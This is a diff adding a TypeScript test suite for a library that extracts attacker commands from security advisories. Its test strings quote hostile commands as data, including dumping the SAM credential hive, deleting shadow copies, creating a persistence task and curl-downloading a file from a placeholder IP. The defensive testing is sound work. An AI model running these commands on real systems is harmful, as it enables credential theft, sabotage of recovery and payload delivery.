@@ -1,0 +1,123 @@
+import { findBehaviours } from '@tripline/advisory';
+import fc from 'fast-check';
+import { markdownAdvisory, textAdvisory } from './support/documents.js';
+
+async function commandsIn(text: string): Promise<readonly string[]> {
+  const doc = await textAdvisory(text);
+  return findBehaviours(doc)
+    .filter(({ kind }) => kind === 'command')
+    .map(({ value }) => value);
+}
+
+describe('command lines in running text', () => {
+  it.each([
+    [
+      'The actor used the following command: reg.exe save HKLM\\SAM C:\\Temp\\s.hiv /y and left.',
+      'reg.exe save HKLM\\SAM C:\\Temp\\s.hiv /y',
+    ],
+    [
+      'They executed schtasks /create /tn "Night Job" /tr "C:\\ProgramData\\n.exe" /sc daily. The task then ran.',
+      'schtasks /create /tn "Night Job" /tr "C:\\ProgramData\\n.exe" /sc daily',
+    ],
+    ['It then calls “vssadmin delete shadows /all /quiet” to hinder recovery.', 'vssadmin delete shadows /all /quiet'],
+    [
+      'The loader starts cmd.exe /c copy *.js C:\\Users\\Public\\a.js. The path is fixed.',
+      'cmd.exe /c copy *.js C:\\Users\\Public\\a.js',
+    ],
+    ['Later, nltest /domain_trusts was seen on two hosts.', 'nltest /domain_trusts'],
+    ['They ran "curl -o /tmp/x http://192.0.2.4/x" on the gateway.', 'curl -o /tmp/x http://192.0.2.4/x'],
+  ])('ends a command where the sentence goes on: %s', async (text, command) => {
+    expect(await commandsIn(text)).toContain(command);
+  });
+
+  it('does not take ordinary English for commands', async () => {
+    const prose =
+      'The net effect was small. Users type a password at the start of a session and find the service in a list. ' +
+      'PowerShell is popular with many groups, and the Python developers copy code from each other. Go to the next page.';
+    expect(await commandsIn(prose)).toEqual([]);
+  });
+
+  it('does not take hunting queries and source code for commands', async () => {
+    const doc = await markdownAdvisory(
+      '# Hunting\n\n```\nDeviceProcessEvents | where ProcessCommandLine has_any ("net user /domain", "whoami /all")\n```\n\n```\nint main() { system("x"); }\n```\n',
+    );
+    expect(findBehaviours(doc).filter(({ kind }) => kind === 'command')).toEqual([]);
+  });
+
+  it('takes the whole line of a code block without its prompt', async () => {
+    const doc = await markdownAdvisory(
+      '# Case\n\nSeen:\n\n```\nC:\\Users\\x> wmic shadowcopy delete\n$ crontab -l\n```\n',
+    );
+    const values = findBehaviours(doc)
+      .filter(({ kind }) => kind === 'command')
+      .map(({ value }) => value);
+    expect(values).toEqual(['wmic shadowcopy delete', 'crontab -l']);
+  });
+
+  it('tells Windows from Linux by the command itself', async () => {
+    const doc = await markdownAdvisory(
+      '# Case\n\n```\ncurl -o C:\\Temp\\a.dll http://192.0.2.1/a\ncurl -o /tmp/a http://192.0.2.1/a\n```\n',
+    );
+    const systems = findBehaviours(doc)
+      .filter(({ kind }) => kind === 'command')
+      .map(({ details }) => details['system']);
+    expect(systems).toEqual(['windows', 'linux']);
+  });
+
+  it('trusts what is advised or denied less than what is told', async () => {
+    const told = findBehaviours(await textAdvisory('The actor ran vssadmin delete shadows /all on every host.'));
+    const denied = findBehaviours(
+      await textAdvisory('The actor did not run vssadmin delete shadows /all on any host.'),
+    );
+    const advised = findBehaviours(
+      await textAdvisory('Administrators should run vssadmin list shadows /for=C: to check.'),
+    );
+    expect(told[0]?.confidence).toBeGreaterThan(0.7);
+    expect(denied[0]?.confidence).toBeLessThan(0.3);
+    expect(advised[0]?.confidence).toBeLessThan(0.5);
+  });
+});
+
+describe('whatever the text', () => {
+  it('every finding stands in the text at its span, in order', async () => {
+    const piece = fc.constantFrom(
+      'cmd.exe /c "',
+      'powershell -enc ',
+      '"',
+      "'",
+      '\\',
+      '/',
+      ' ',
+      '\n',
+      'net user /add',
+      'HKLM\\Software\\',
+      '.exe',
+      'AWS CreateUser ',
+      '`',
+      'kubectl exec ',
+      '| ',
+      '&& ',
+      '\\\\.\\pipe\\',
+      'http://',
+      '%APPDATA%\\',
+      '-',
+      '“',
+      '”',
+      'é',
+      '\u{1F4A5}',
+    );
+    await fc.assert(
+      fc.asyncProperty(fc.array(piece, { maxLength: 60 }), async (pieces) => {
+        const doc = await textAdvisory(`x ${pieces.join('')}`);
+        let before = 0;
+        for (const { start, end } of findBehaviours(doc)) {
+          expect(start).toBeGreaterThanOrEqual(before);
+          expect(end).toBeGreaterThan(start);
+          expect(end).toBeLessThanOrEqual(doc.text.length);
+          before = start;
+        }
+      }),
+      { numRuns: 60 },
+    );
+  });
+});
